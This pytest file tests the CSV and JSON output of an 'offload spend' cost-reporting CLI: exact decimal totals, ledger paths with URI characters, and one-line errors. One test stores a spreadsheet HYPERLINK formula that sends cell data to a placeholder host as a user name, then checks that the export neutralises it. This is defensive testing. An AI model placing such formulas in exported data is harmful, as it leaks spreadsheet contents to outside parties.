"""`offload spend --csv` as a real process: one row per group, exact decimal dollars."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

from offload.core.pricing import Usage
from offload.infra.ledger.db import Ledger
from offload.infra.ledger.records import Attempt, record

CENT = 10**10


async def _fill(path: Path) -> None:
    led = await Ledger.open(path)
    now = datetime.now(UTC)
    try:
        for key, model, cost, base in (
            ("a1", "claude-haiku-5-5", 3, 9),  # 3 pusd: far below a cent, still exact
            ("a2", "claude-haiku-5-5", 150 * CENT, 400 * CENT),
            ("a3", "claude-sonnet-5-5", 23 * CENT, 179 * CENT),
        ):
            await record(
                led, Attempt(key, "s1", "routed_complete", model, Usage(10, 5, cache_read=7), cost, base, ts=now)
            )
    finally:
        await led.close()


def test_spend_csv(tmp_path: Path) -> None:
    db = tmp_path / "ledger.db"
    asyncio.run(_fill(db))
    env = {k: v for k, v in os.environ.items() if not k.startswith("OFFLOAD_")} | {"OFFLOAD_DB": str(db)}
    out = subprocess.run(
        [sys.executable, "-m", "offload.cli.main", "spend", "--by", "model", "--csv"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert out.stdout.splitlines()[0] == (
        "model,calls,input_tokens,output_tokens,cache_read_tokens,cost_usd,baseline_usd,saved_usd,saved_pct"
    )
    assert rows == [
        {
            "model": "claude-haiku-5-5",
            "calls": "2",
            "input_tokens": "20",
            "output_tokens": "10",
            "cache_read_tokens": "14",
            "cost_usd": "1.500000000003",
            "baseline_usd": "4.000000000009",
            "saved_usd": "2.500000000006",
            "saved_pct": "62.5",
        },
        {
            "model": "claude-sonnet-5-5",
            "calls": "1",
            "input_tokens": "10",
            "output_tokens": "5",
            "cache_read_tokens": "7",
            "cost_usd": "0.23",
            "baseline_usd": "1.79",
            "saved_usd": "1.56",
            "saved_pct": "87.2",
        },
    ]
    # A spreadsheet's column sum is the exact total.
    assert sum(Decimal(r["cost_usd"]) for r in rows) == Decimal("1.730000000003")


def _spend(db: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("OFFLOAD_")} | {"OFFLOAD_DB": str(db)}
    return subprocess.run(
        [sys.executable, "-m", "offload.cli.main", "spend", *args], env=env, capture_output=True, text=True, timeout=60
    )


def test_a_ledger_path_with_uri_characters_is_read_as_written(tmp_path: Path) -> None:
    # '#', '?' and '%' mean something in the file: URI the read-only readers open; a naive
    # f"file:{path}" read "a" (and created it, mode=ro being cut off with the fragment) and said $0.
    folder = tmp_path / "a#b?c%41"
    folder.mkdir()
    asyncio.run(_fill(folder / "ledger.db"))
    out = _spend(folder / "ledger.db", "--by", "model", "--json")
    assert out.returncode == 0, out.stderr
    assert '"cost_usd": "1.730000000003"' in out.stdout  # 150 + 23 cents + 3 pusd
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a#b?c%41"]  # no stray file beside it


def test_unopenable_ledger_and_overflowing_since_are_one_line(tmp_path: Path) -> None:
    (tmp_path / "dir.db").mkdir()
    out = _spend(tmp_path / "dir.db")
    assert out.returncode == 1 and len(out.stderr.splitlines()) == 1, out.stderr
    assert out.stderr.startswith(f"offload spend: {tmp_path / 'dir.db'}: cannot read the ledger")
    asyncio.run(_fill(tmp_path / "ledger.db"))
    far = _spend(tmp_path / "ledger.db", "--since", "99999999d")
    assert far.returncode == 1 and len(far.stderr.splitlines()) == 1, far.stderr
    assert "--since '99999999d'" in far.stderr


async def _fill_users(path: Path) -> None:
    led = await Ledger.open(path, user='=HYPERLINK("http://x.invalid/?"&A1,"ok")')
    try:
        await record(led, Attempt("u1", "s1", "routed_complete", "claude-haiku-5-5", Usage(1, 1), 5, 3))
    finally:
        await led.close()


def test_csv_keys_never_start_a_formula(tmp_path: Path) -> None:
    # OFFLOAD_USER / project names come from whoever shares the ledger; a spreadsheet runs a
    # cell starting with = + - @ as a formula. Money stays a plain (here negative) number.
    asyncio.run(_fill_users(tmp_path / "ledger.db"))
    out = _spend(tmp_path / "ledger.db", "--by", "user", "--csv")
    assert out.returncode == 0, out.stderr
    row = next(csv.DictReader(io.StringIO(out.stdout)))
    assert row["user"] == '\'=HYPERLINK("http://x.invalid/?"&A1,"ok")'
    assert row["saved_usd"] == "-0.000000000002"
